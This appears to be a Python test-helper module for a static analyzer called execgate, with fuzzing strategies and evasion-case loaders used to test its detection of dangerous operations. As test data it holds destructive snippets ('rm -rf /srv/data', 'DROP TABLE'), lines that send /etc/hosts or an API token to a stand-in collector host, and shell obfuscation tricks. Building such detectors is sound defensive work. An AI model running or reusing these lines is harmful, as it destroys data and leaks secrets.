"""Hypothesis strategies and runners shared by the robustness tests and ``bench/fuzz.py``.

The same properties run in two budgets: a small, derandomised one in the
default test suite (fast and reproducible in CI) and a large one behind
``bench/fuzz.py`` (it sets ``EXECGATE_FUZZ_EXAMPLES``).
Keeping the strategies here means the long run explores exactly what CI
checks, only longer.
"""
from __future__ import annotations

import contextlib
import io
import os
import random
import sys
from dataclasses import dataclass
from pathlib import Path
from collections.abc import Iterator

from hypothesis import HealthCheck, settings
from hypothesis import strategies as st

from analyzer import frontends
from analyzer.frontends import Options
from analyzer.model import Analysis, Location

FIXTURES = Path(__file__).resolve().parent / "fixtures"
LANGUAGE_DIRS = {"python": "python", "sql": "sql", "shell": "shell", "notebook": "notebooks"}
SUFFIX = {"python": ".py", "sql": ".sql", "shell": ".sh", "notebook": ".ipynb"}

# -- budgets -----------------------------------------------------------------------------------

_EXAMPLES = int(os.environ.get("EXECGATE_FUZZ_EXAMPLES", "0") or 0)
_TRACE = os.environ.get("EXECGATE_FUZZ_TRACE")


def budget(ci_examples: int) -> settings:
    """CI: ``ci_examples`` derandomised examples, no database; bench/fuzz.py raises the count."""
    common = dict(deadline=None, suppress_health_check=list(HealthCheck), database=None)
    if _EXAMPLES:
        return settings(max_examples=_EXAMPLES, derandomize=False, **common)
    return settings(max_examples=ci_examples, derandomize=True, **common)


# -- running execgate ---------------------------------------------------------------------------


def analyze(language: str, text: str, path: str = "fuzz") -> Analysis:
    """One front end through the public entry point (the one that bounds depth and catches errors).

    With ``EXECGATE_FUZZ_TRACE=FILE`` each input is written there first: a crash of a native
    parser (a segfault) kills the process before hypothesis can report, and leaves the input here."""
    if _TRACE:
        with open(_TRACE, "w", encoding="utf-8", errors="surrogateescape") as handle:
            handle.write(f"{language}\n{text}")
    return frontends.analyze(language, text, Location(path), Options())


def crashes(analysis: Analysis) -> list[str]:
    """Errors that are an internal failure caught by the safety net: a crash in disguise."""
    return [e.display() for e in analysis.errors if "internal error" in e.message]


@dataclass
class CliResult:
    code: int
    out: str
    err: str


@contextlib.contextmanager
def _streams(stdin: bytes) -> Iterator[tuple[io.StringIO, io.StringIO]]:
    saved = sys.stdin, sys.stdout, sys.stderr
    out, err = io.StringIO(), io.StringIO()
    sys.stdin = io.TextIOWrapper(io.BytesIO(stdin), encoding="utf-8")
    sys.stdout, sys.stderr = out, err
    try:
        yield out, err
    finally:
        sys.stdin, sys.stdout, sys.stderr = saved


def run_cli(args: list[str], stdin: bytes = b"") -> CliResult:
    """``execgate`` in this process through ``analyzer.commands.main.main``, with its streams captured."""
    from analyzer.commands.main import main

    with _streams(stdin) as (out, err):
        code = main(list(args))
    return CliResult(code, out.getvalue(), err.getvalue())


def assert_clean_decision(result: CliResult) -> None:
    """Every run ends in a decision, with no traceback and no internal error anywhere."""
    assert result.code in (0, 1, 2), result
    assert "Traceback" not in result.err and "Traceback" not in result.out, result.err
    assert "internal error" not in result.err, result.err
    assert "internal error" not in result.out, result.out


# -- raw material -------------------------------------------------------------------------------


def fixture_files(language: str) -> list[Path]:
    folder = FIXTURES / LANGUAGE_DIRS[language]
    return sorted(p for p in folder.rglob(f"*{SUFFIX[language]}") if p.is_file())


def fixture_texts(language: str) -> list[str]:
    return [p.read_text(encoding="utf-8", errors="surrogateescape") for p in fixture_files(language)]


def mutated(texts: list[str]) -> st.SearchStrategy[str]:
    """A real fixture, truncated, spliced with another, lines duplicated, shuffled or dropped."""

    @st.composite
    def build(draw: st.DrawFn) -> str:
        text = draw(st.sampled_from(texts))
        for _ in range(draw(st.integers(1, 3))):
            how = draw(st.sampled_from(["truncate", "splice", "duplicate", "shuffle", "drop", "insert", "flip"]))
            lines = text.splitlines(keepends=True)
            if how == "truncate":
                text = text[: draw(st.integers(0, len(text)))]
            elif how == "splice":
                other = draw(st.sampled_from(texts))
                text = text[: draw(st.integers(0, len(text)))] + other[draw(st.integers(0, len(other))):]
            elif how == "duplicate" and lines:
                i = draw(st.integers(0, len(lines) - 1))
                text = "".join(lines[: i + 1] + [lines[i]] * draw(st.integers(1, 5)) + lines[i + 1:])
            elif how == "shuffle":
                random.Random(draw(st.integers(0, 2**32))).shuffle(lines)
                text = "".join(lines)
            elif how == "drop" and lines:
                del lines[draw(st.integers(0, len(lines) - 1))]
                text = "".join(lines)
            elif how == "insert":
                at = draw(st.integers(0, len(text)))
                text = text[:at] + draw(st.text(max_size=20)) + text[at:]
            elif how == "flip" and text:
                at = draw(st.integers(0, len(text) - 1))
                text = text[:at] + draw(st.characters()) + text[at + 1:]
        return text

    return build()


def reencoded(text: str, how: str) -> bytes:
    """Bytes of ``text`` the way another editor might have saved them."""
    if how == "crlf":
        return text.replace("\n", "\r\n").encode("utf-8", "surrogateescape")
    if how == "cr":
        return text.replace("\n", "\r").encode("utf-8", "surrogateescape")
    if how == "bom":
        return b"\xef\xbb\xbf" + text.encode("utf-8", "surrogateescape")
    if how == "utf-16":
        return text.encode("utf-16", "surrogatepass")
    if how == "latin-1":
        return text.encode("latin-1", "replace")
    return text.encode("utf-8", "surrogateescape")


ENCODINGS = ("utf-8", "crlf", "cr", "bom", "utf-16", "latin-1")

# -- shell lines --------------------------------------------------------------------------------

SHELL_WORDS = ["rm", "ls", "echo", "cat", "git", "curl", "wget", "find", "xargs", "bash", "sh", "sudo", "env",
               "eval", "exec", "kubectl", "aws", "terraform", "dd", "chmod", "psql", "python", "base64", "tar",
               "docker", "helm", "redis-cli", "cp", "mv", "printf", "source", ".", "command", "nohup", "time"]
SHELL_FLAGS = ["-rf", "-r", "-f", "--force", "-delete", "-c", "-d", "--recursive", "-exec", "-0", "-i", "-x",
               "push", "delete", "destroy", "-y", "--all", "reset", "--hard", "clean", "-fdx", "s3", "rb"]
SHELL_ARGS = ["/", "/srv", "~", "*", "$HOME", "${X}", "$(pwd)", "`id`", "'a b'", '"$@"', "x.txt", "{}", "\\;",
              "https://example.com/x", "@data.json", "-", "$'\\x72m'", "r''m", '"r"m', "\\rm", "${IFS}"]
SHELL_OPERATORS = [" ", " | ", " && ", " || ", "; ", " & ", "\n", " > ", " >> ", " < ", " 2>&1 ", " <<< ", " |& "]


@st.composite
def shell_line(draw: st.DrawFn) -> str:
    """A line composed of command words, flags, quoted and expanded arguments and operators."""
    parts: list[str] = []
    for _ in range(draw(st.integers(1, 4))):
        command = [draw(st.sampled_from(SHELL_WORDS))]
        command += draw(st.lists(st.sampled_from(SHELL_FLAGS + SHELL_ARGS), max_size=5))
        if draw(st.booleans()):
            quote = draw(st.sampled_from(["'", '"', "$(", "`", "$'", "\\"]))
            command.append(quote + draw(st.text(max_size=8)))
        parts.append(" ".join(command))
        parts.append(draw(st.sampled_from(SHELL_OPERATORS)))
    return "".join(parts[:-1]) + "\n"


# -- notebooks ----------------------------------------------------------------------------------

MAGIC_SOURCES = ["%time x = 1", "%%capture\nx = 1", "!ls -la", "%%bash\necho hi", "%sql SELECT 1",
                 "%%sql\nSELECT 1", "x = !echo hi", "%load_ext autoreload", "%%writefile a.txt\nhello",
                 "%matplotlib inline", "%%script bash\nls", "?print", "print?", "%env A=1", "%%html\n<b/>"]


def notebook_cell_source() -> st.SearchStrategy[str]:
    return st.one_of(st.text(max_size=60), st.sampled_from(MAGIC_SOURCES), shell_line().map(lambda s: "!" + s),
                     st.sampled_from(fixture_texts("python")))


@st.composite
def random_notebook(draw: st.DrawFn, keep: list[str] | None = None) -> str:
    """A notebook written with nbformat: random cells, sources, magics, outputs, metadata.

    ``keep`` are code-cell sources that must be in it (at random places)."""
    import nbformat
    from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output, new_raw_cell

    cells = []
    for _ in range(draw(st.integers(0, 5))):
        kind = draw(st.sampled_from(["code", "code", "markdown", "raw"]))
        source = draw(notebook_cell_source())
        if kind == "code":
            cell = new_code_cell(source, execution_count=draw(st.none() | st.integers(0, 50)))
            if draw(st.booleans()):
                cell.outputs.append(new_output("stream", name="stdout", text=draw(st.text(max_size=40))))
            if draw(st.booleans()):
                cell.outputs.append(new_output("error", ename="E", evalue=draw(st.text(max_size=10)),
                                               traceback=[draw(st.text(max_size=10))]))
            cells.append(cell)
        elif kind == "markdown":
            cells.append(new_markdown_cell(source))
        else:
            cells.append(new_raw_cell(source))
    for source in keep or []:
        cells.insert(draw(st.integers(0, len(cells))), new_code_cell(source))
    for index, cell in enumerate(cells):
        cell["id"] = f"c{index}"
        cell.metadata.update(draw(st.fixed_dictionaries({}, optional={
            "tags": st.lists(st.sampled_from(["keep", "skip-execution", "x y"]), max_size=2, unique=True),
            "x": st.booleans() | st.text(max_size=5)})))
    metadata = draw(st.sampled_from([
        {},
        {"kernelspec": {"name": "python3", "display_name": "Python 3", "language": "python"},
         "language_info": {"name": "python"}},
        {"language_info": {"name": "python", "version": "3.11"}, "x": draw(st.text(max_size=5))},
    ]))
    return nbformat.writes(new_notebook(cells=cells, metadata=metadata))


# -- a destructive operation kept intact ----------------------------------------------------------

DANGEROUS = {
    "python": ('import shutil\nshutil.rmtree("/srv/data")\n', "py.fs-delete-tree"),
    "sql": ("DROP TABLE analytics.events;\n", "sql.drop-table"),
    "shell": ("rm -rf /srv/data\n", "shell.rm-recursive"),
}
HARMLESS = {
    "python": ["x = 1\n", "# a comment\n", "\n", "print('hello')\n", "def f(a):\n    return a * 2\n",
               '"""A docstring that mentions rm -rf / and DROP TABLE."""\n', "import os\n",
               "y = [i for i in range(3)]\n", "class K:\n    pass\n", "if x:\n    pass\n",
               "z = {'a': 1}  # trailing comment\n"],
    "sql": ["SELECT 1;\n", "-- a comment\n", "\n", "/* block\ncomment */\n", "INSERT INTO t VALUES (1);\n",
            "UPDATE t SET a = 1 WHERE id = 2;\n", "SELECT a, b FROM t WHERE c > 3;\n", "CREATE TABLE tmp_x (a int);\n"],
    "shell": ["echo hi\n", "# a comment\n", "\n", "ls -la\n", "cd /tmp\n", "x=1\n", "echo \"done $x\"\n",
              "if [ -f a ]; then echo a; fi\n", "printf '%s\\n' ok\n"],
}
_SHELL_KEYWORDS = {"if", "then", "else", "elif", "fi", "case", "esac", "for", "while", "until", "do", "done",
                   "function", "select", "time", "in", "coproc", "{", "}", "!", "[[", "]]"}


@st.composite
def garbage_line(draw: st.DrawFn, language: str) -> str:
    """A line of junk that stays on its own line: it cannot open a quote, comment or block."""
    if language == "sql":
        alphabet = st.sampled_from(list("abcdefXYZ0123456789 ,.=+*<>%") + ["SELEC", "FROM", "WHER"])
        return "".join(draw(st.lists(alphabet, min_size=1, max_size=12))) + ";\n"
    words = st.text(alphabet=st.sampled_from(list("abcdefxyz0123456789-_.,:=/+@%^")), min_size=1, max_size=8)
    line = draw(st.lists(words.filter(lambda w: w not in _SHELL_KEYWORDS), min_size=1, max_size=4))
    return " ".join(line) + "\n"


@st.composite
def kept_dangerous(draw: st.DrawFn, language: str) -> str:
    """The language's destructive snippet with harmless code (and, for SQL/shell, junk lines) around it."""
    snippet, _ = DANGEROUS[language]
    filler = st.sampled_from(HARMLESS[language])
    if language in ("sql", "shell"):
        filler = st.one_of(filler, garbage_line(language))
    before = draw(st.lists(filler, max_size=6))
    after = draw(st.lists(filler, max_size=6))
    if language in ("sql", "shell") and draw(st.booleans()):
        after.append(draw(st.text(max_size=30)))    # trailing garbage after the last line
    text = "".join(before) + snippet + "".join(after)
    if draw(st.booleans()):
        text = text.replace("\n", "\r\n")
    return text


# -- odd literals in an otherwise normal file -----------------------------------------------------

ODD_HOSTS = ["host[.]example.com", "[::1]", "[fe80::1%eth0]", "[not-an-ip]", "[", "]", "[]", "h[.]x[.]y",
             "user@[::1]", "example.com:99999999999999999999", "example.com:-1", "example.com:port",
             "xn--", "\u2603.example", "ex\x00ample.com", "a" * 300, "%5b::1%5d", "..", "@", ":"]
ODD_SCHEMES = ["https", "http", "hxxps", "s3", "gs", "ftp", "file", "data", "javascript", "HTTPS", "1http", "", "s3+x"]
ODD_VALUES = ["10**400", "-10**400", "1e309", "0x" + "f" * 80, "b'\\x00\\xff'", "'\\x00'", "None", "...", "1j",
              "(1, 2, 3)", "[None]", "{'a': {}}", "float('nan')"]

# Where an odd literal is used: each line a normal program may hold, `{v}` the literal.
ODD_PLACES = [
    "requests.post({v}, data=open('/etc/hosts').read())\n",
    "requests.get({v}, params={{'q': os.environ['API_TOKEN']}})\n",
    "requests.get({v})\n",
    "urllib.request.urlopen({v}, b'x')\n",
    "socket.gethostbyname({v})\n",
    "socket.gethostbyname({v} + open('/etc/hosts').read())\n",
    "smtplib.SMTP({v}).sendmail('a', 'b', open('/etc/hosts').read())\n",
    "s = socket.socket()\ns.connect(({v}, 443))\ns.sendall(open('/etc/hosts').read().encode())\n",
    "df.to_csv({v})\n",
    "os.remove({v})\n",
    "x = {v}\n",
    "cursor.execute({v})\n",
    "subprocess.run({v}, shell=True)\n",
]
ODD_PREAMBLE = "import os, socket, smtplib, subprocess, urllib.request\nimport requests\n"


@st.composite
def odd_literal(draw: st.DrawFn) -> str:
    """A Python literal no program should trip over: defanged URLs, IPv6 brackets, huge ports,
    odd schemes, NUL bytes, huge numbers."""
    if draw(st.booleans()):
        scheme = draw(st.sampled_from(ODD_SCHEMES))
        host = draw(st.sampled_from(ODD_HOSTS))
        path = draw(st.sampled_from(["", "/", "/x?a=1", "#frag", "/[a]"]))
        return repr(f"{scheme}://{host}{path}" if scheme else f"{host}{path}")
    return draw(st.sampled_from(ODD_VALUES))


@st.composite
def odd_literal_file(draw: st.DrawFn) -> tuple[str, dict[str, int]]:
    """A normal file with odd literals in it, and the line of each finding that must survive."""
    lines = [ODD_PREAMBLE]
    for _ in range(draw(st.integers(1, 4))):
        lines.append(draw(st.sampled_from(ODD_PLACES)).format(v=draw(odd_literal())))
    kept = {"py.fs-delete-tree": 'import shutil\nshutil.rmtree("/srv/data")\n',
            "py.exfil-request": 'requests.post("https://collector.example.net/in", data=open("/etc/hosts").read())\n'}
    where = {}
    for snippet in kept.values():
        at = draw(st.integers(1, len(lines)))
        lines.insert(at, snippet)
    text = "".join(lines)
    for rule, snippet in kept.items():
        last = snippet.rstrip("\n").splitlines()[-1]
        where[rule] = text.splitlines().index(last) + 1
    return text, where


# -- the evasion suite (tests/fixtures/evasion, tests/test_evasion.py, bench/evasion_report.py) ------

EVASION = FIXTURES / "evasion"
EVASION_LANGUAGES = {".py": "python", ".sql": "sql", ".sh": "shell", ".cells": "notebook"}
STATUSES = ("resolved", "flagged", "closed", "missed")


@dataclass(frozen=True)
class EvasionCase:
    """One way of hiding an operation: a snippet, and the outcomes that count as seeing through it.

    ``expect`` holds "resolved", "flagged" and/or "closed"; ``rules`` the real rules "resolved" means."""

    family: str
    name: str
    language: str
    source: str
    expect: tuple[str, ...]
    rules: tuple[str, ...]
    path: str


def evasion_cases() -> list[EvasionCase]:
    """Cases from the fixture files: ``# family: F`` once, then ``# case: NAME | expect: resolved RULE | flagged``
    before each snippet (``--`` instead of ``#`` in SQL); a case runs to the next ``case:`` line."""
    cases = []

    # The state is passed in, not closed over: it changes line by line after close() would be defined.
    def close(path: Path, language: str, family: str, current: tuple | None, lines: list[str]) -> None:
        if current is not None:
            name, expect, rules = current
            cases.append(EvasionCase(family, name, language, "".join(lines), expect, rules, path.name))

    for path in sorted(EVASION.iterdir()):
        language = EVASION_LANGUAGES.get(path.suffix)
        if language is None:
            continue
        marker = "--" if language == "sql" else "#"
        family, current, lines = "", None, []
        for line in path.read_text(encoding="utf-8").splitlines(keepends=True):
            if line.startswith(f"{marker} family:"):
                family = line.split(":", 1)[1].strip()
            elif line.startswith(f"{marker} case:"):
                close(path, language, family, current, lines)
                name, _, expectation = line.split(":", 1)[1].partition("| expect:")
                expect, rules = [], []
                for option in expectation.split("|"):
                    words = option.split()
                    expect.append(words[0])
                    rules += words[1:]
                current, lines = (name.strip(), tuple(expect), tuple(rules)), []
            elif current is not None:
                lines.append(line)
        close(path, language, family, current, lines)
    return cases


def evasion_document(case: EvasionCase) -> tuple[str, str]:
    """The text to check and its language: notebook cases become a one-cell notebook."""
    if case.language != "notebook":
        return case.source, case.language
    import nbformat
    from nbformat.v4 import new_code_cell, new_notebook

    cell = new_code_cell(case.source.rstrip("\n"))
    cell["id"] = "evasion"
    metadata = {"kernelspec": {"name": "python3", "display_name": "Python 3", "language": "python"}}
    return nbformat.writes(new_notebook(cells=[cell], metadata=metadata)), "notebook"


def evasion_report(case: EvasionCase, environment: str | None = None):
    """The engine's report on one case (never the CLI: this is what every gate decides on)."""
    from analyzer.policy.context import resolve_context
    from analyzer.engine import Checker
    from analyzer.policy.load import load_policy

    policy = load_policy(None)
    checker = Checker(policy, resolve_context(policy, environment, None, None, "cli"))
    text, language = evasion_document(case)
    return checker.check_text(text, language, path=f"{case.path}:{case.name}")


def evasion_status(case: EvasionCase, report) -> str:
    rules = {f.operation.rule for f in report.findings}
    if rules & set(case.rules):
        return "resolved"
    if any(f.operation.category == "evasion" for f in report.findings):
        return "flagged"
    if report.errors:
        return "closed"
    return "missed"
